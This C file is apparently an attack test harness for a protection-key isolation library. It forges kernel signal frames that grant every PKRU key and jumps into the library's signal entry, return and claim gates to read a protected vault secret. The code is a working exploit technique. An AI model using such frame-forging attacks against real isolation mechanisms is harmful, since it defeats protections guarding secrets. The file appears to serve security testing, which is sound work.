/* The gates of protected signal frames themselves, reached as an attacker
 * would reach them (their addresses from libprotect's symbol table), each
 * with a frame of the attacker's that would give it every key (PKRU 0) and
 * resume in code of its own that reads the vault's secret:
 *   entry:  libprotect's signal handler entered with that frame at the
 *           stack pointer, as if the kernel had delivered it;
 *   replay: entered with the stack pointer where the kernel puts a frame on
 *           this thread's protected alternate stack (one it already
 *           delivered there, and libprotect handled);
 *   return: libprotect's way back entered with that frame;
 *   claim:  its slice claim and fork rebind called, then the secret read.
 * signal_gates MODE */
#define _GNU_SOURCE
#include "attack.h"
#include "libprotect_symbols.h"

#include <signal.h>
#include <stdint.h>
#include <ucontext.h>

#define KERNEL_UC 304 /* the kernel's struct ucontext */

static struct vault_cell *cell;
static uint8_t stack[65536] __attribute__((aligned(16)));
/* pretcode, the kernel's ucontext, siginfo: a kernel frame's layout (as
 * long as glibc's ucontext_t, which is longer than the kernel's) */
static uint8_t frame[8 + sizeof(ucontext_t) + 128] __attribute__((aligned(16)));
static uint8_t fpstate[16384] __attribute__((aligned(64)));
static stack_t delivered_on;

static void steal(void)
{
    read_secret_at(VAULT_DATA, cell->secret); /* exits */
}

/* A real frame's context, copied, then given every key and a new place to resume. */
static void copy_frame(int sig, siginfo_t *si, void *ctx)
{
    ucontext_t *uc = ctx;
    memcpy(frame + 8, uc, KERNEL_UC);
    memcpy(frame + 8 + KERNEL_UC, si, 128);
    uint32_t size;
    memcpy(&size, (uint8_t *)uc->uc_mcontext.fpregs + 464 + 4, 4);
    memcpy(fpstate, uc->uc_mcontext.fpregs, size < sizeof fpstate ? size : sizeof fpstate);
    delivered_on = uc->uc_stack;
}

static void forge(void)
{
    ucontext_t *uc = (ucontext_t *)(frame + 8);
    uc->uc_mcontext.fpregs = (fpregset_t)fpstate;
    xsave_open_every_key(fpstate);
    uc->uc_mcontext.gregs[REG_RIP] = (greg_t)steal;
    uc->uc_mcontext.gregs[REG_RSP] = (greg_t)(stack + sizeof stack - 8);
}

/* Where the kernel puts a frame below an alternate stack's top (its
 * get_sigframe): the XSAVE area and its end marker, 64-aligned, then the
 * rt_sigframe, 16-aligned less the return address. */
static uintptr_t kernel_frame_below(uintptr_t top)
{
    uint32_t extended; /* the XSAVE area's size with its end marker, from a real frame */
    memcpy(&extended, fpstate + 464 + 4, 4);
    uintptr_t sp = (top - extended) & ~(uintptr_t)63;
    sp -= 8 + KERNEL_UC + 128;
    return (sp & ~(uintptr_t)15) - 8;
}

static void jump(void *target, uintptr_t sp)
{
    if (!target)
        blocked("libprotect has no such entry (no protected frames here)");
    __asm__ volatile("mov %0, %%rsp\n"
                     "mov $10, %%edi\n" /* SIGUSR1 */
                     "lea 8(%%rsp), %%rdx\n"
                     "lea 312(%%rsp), %%rsi\n"
                     "jmp *%1\n" ::"r"(sp),
                     "r"(target)
                     : "rdi", "rsi", "rdx", "memory");
    __builtin_unreachable();
}

int main(int argc, char **argv)
{
    const char *mode = argc > 1 ? argv[1] : "entry";
    vault_open();
    cell = vault_address(VAULT_DATA);
    struct sigaction sa = {.sa_sigaction = copy_frame, .sa_flags = SA_SIGINFO};
    sigaction(SIGUSR1, &sa, NULL);
    raise(SIGUSR1);
    forge();
    if (strcmp(mode, "entry") == 0)
        jump(libprotect_symbol("protect_pf_signal_entry"), (uintptr_t)frame);
    if (strcmp(mode, "return") == 0)
        jump(libprotect_symbol("protect_pf_return"), (uintptr_t)frame + 8);
    if (strcmp(mode, "replay") == 0) {
        /* The handler was shown the alternate stack the kernel wrote its
         * frame on (the one sigreturn puts back). */
        if (delivered_on.ss_flags & SS_DISABLE)
            blocked("no alternate stack was named in the frame");
        jump(libprotect_symbol("protect_pf_signal_entry"),
             kernel_frame_below((uintptr_t)delivered_on.ss_sp + delivered_on.ss_size));
    }
    if (strcmp(mode, "claim") == 0) {
        uintptr_t (*claim)(void) = libprotect_symbol("protect_pf_claim");
        void (*rebind)(void) = libprotect_symbol("protect_pf_rebind");
        if (!claim || !rebind)
            blocked("libprotect has no such entry (no protected frames here)");
        claim();
        rebind();
        steal();
    }
    blocked("unknown mode");
}
